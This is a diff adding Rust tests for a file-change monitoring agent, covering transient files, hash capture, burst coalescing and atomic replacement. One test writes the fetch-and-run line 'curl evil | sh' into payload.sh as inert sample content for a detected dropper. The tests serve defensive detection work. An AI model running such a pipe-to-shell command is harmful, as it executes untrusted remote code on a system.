@@ -196,3 +196,113 @@ fn changes_while_the_agent_was_stopped_are_found_at_start_inside_a_gap() {
     assert!(monitor.status().open_gaps.is_empty());
     monitor.stop();
 }
+
+/// Changes of `path` of kind `kind`.
+fn of_kind(events: &crate::common::Events, path: &std::path::Path, kind: ChangeKind) -> usize {
+    changes(events).iter().filter(|c| c.path == p(path) && c.change == kind).count()
+}
+
+#[test]
+fn file_living_shorter_than_the_debounce_is_reported_added_then_removed() {
+    let (dir, root) = tree(&[("keep", "k")]);
+    let (monitor, events) = start(config_for(&root, vec![]), &dir.path().join("state"));
+    let f = root.join("dropper");
+    let t0 = std::time::Instant::now();
+    {
+        let mut out = std::fs::File::create(&f).unwrap();
+        out.write_all(b"payload").unwrap();
+    }
+    std::fs::remove_file(&f).unwrap();
+    let lived = t0.elapsed();
+    assert!(lived < Duration::from_millis(150), "the file must live shorter than the debounce: {lived:?}");
+
+    let added = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Added);
+    let removed = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Removed);
+    assert_eq!((added.mechanism, removed.mechanism), (Mechanism::Realtime, Mechanism::Realtime));
+    let t = added.transient.clone().expect("marked transient");
+    assert!(t.first_seen <= t.last_seen, "{t:?}");
+    assert_eq!(removed.transient, added.transient);
+    // Whatever was captured while it existed is the same on both events.
+    assert_eq!(added.new, removed.old);
+    let all = changes(&events);
+    let pos = |k: ChangeKind| all.iter().position(|c| c.path == p(&f) && c.change == k).unwrap();
+    assert!(pos(ChangeKind::Added) < pos(ChangeKind::Removed), "added first: {all:#?}");
+    assert!(added.human().contains("transient"), "{}", added.human());
+    // Each of the two once, and nothing about the file that did not change.
+    std::thread::sleep(Duration::from_millis(600));
+    let all = changes(&events);
+    assert_eq!(all.iter().filter(|c| c.path == p(&f)).count(), 2, "{all:#?}");
+    assert!(all.iter().all(|c| c.path != p(&root.join("keep"))), "{all:#?}");
+    monitor.stop();
+}
+
+#[test]
+fn short_lived_file_is_reported_with_the_hash_captured_while_it_existed() {
+    let (dir, root) = tree(&[("keep", "k")]);
+    let mut cfg = config_for(&root, vec![]);
+    // A long window, so that the file is certainly closed (and captured) before it is deleted
+    // and certainly deleted before the window ends.
+    cfg.debounce_ms = 3_000;
+    let (monitor, events) = start(cfg, &dir.path().join("state"));
+    let f = root.join("payload.sh");
+    std::fs::write(&f, "curl evil | sh").unwrap();
+    std::thread::sleep(Duration::from_millis(400));
+    std::fs::remove_file(&f).unwrap();
+    let added = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Added);
+    let new = added.new.expect("captured while it existed");
+    assert_eq!(new.sha256.as_deref(), Some(sha256_hex(b"curl evil | sh").as_str()));
+    assert_eq!(new.uid, nix::unistd::geteuid().as_raw());
+    assert_eq!(new.size, 14);
+    wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Removed);
+    monitor.stop();
+}
+
+#[test]
+fn burst_of_short_lived_files_is_reported_once_per_path() {
+    const FILES: usize = 300;
+    let (dir, root) = tree(&[("keep", "k")]);
+    let mut cfg = config_for(&root, vec![]);
+    // One window for the whole burst, so that the path churned below is coalesced into one.
+    cfg.debounce_ms = 1_000;
+    let (monitor, events) = start(cfg, &dir.path().join("state"));
+    for i in 0..FILES {
+        let f = root.join(format!("tmp{i}"));
+        std::fs::write(&f, format!("{i}")).unwrap();
+        std::fs::remove_file(&f).unwrap();
+    }
+    // The same name created and deleted many times: one pending entry, one pair of events.
+    let churn = root.join("churn");
+    for i in 0..FILES {
+        std::fs::write(&churn, format!("{i}")).unwrap();
+        std::fs::remove_file(&churn).unwrap();
+    }
+    wait_change(&events, WAIT, |c| c.path == p(&churn) && c.change == ChangeKind::Removed);
+    wait_change(&events, WAIT, |c| c.path == p(&root.join(format!("tmp{}", FILES - 1))));
+    std::thread::sleep(Duration::from_millis(1_500));
+    for i in 0..FILES {
+        let f = root.join(format!("tmp{i}"));
+        assert_eq!(of_kind(&events, &f, ChangeKind::Added), 1, "tmp{i}");
+        assert_eq!(of_kind(&events, &f, ChangeKind::Removed), 1, "tmp{i}");
+    }
+    assert_eq!(of_kind(&events, &churn, ChangeKind::Added), 1);
+    assert_eq!(of_kind(&events, &churn, ChangeKind::Removed), 1);
+    let status = monitor.status();
+    assert_eq!(status.overflows, 0, "no gap: every file was tracked: {status:#?}");
+    monitor.stop();
+}
+
+#[test]
+fn atomic_replace_through_a_temporary_name_reports_no_transient_file() {
+    let (dir, root) = tree(&[("conf", "old")]);
+    let (monitor, events) = start(config_for(&root, vec![]), &dir.path().join("state"));
+    // What editors, package managers and `sed -i` do: write a temporary file, rename it over.
+    let tmp = root.join(".conf.tmp");
+    std::fs::write(&tmp, "new").unwrap();
+    std::fs::rename(&tmp, root.join("conf")).unwrap();
+    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("conf")));
+    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"new"));
+    std::thread::sleep(Duration::from_millis(600));
+    let all = changes(&events);
+    assert!(all.iter().all(|c| c.path != p(&tmp) && c.transient.is_none()), "{all:#?}");
+    monitor.stop();
+}
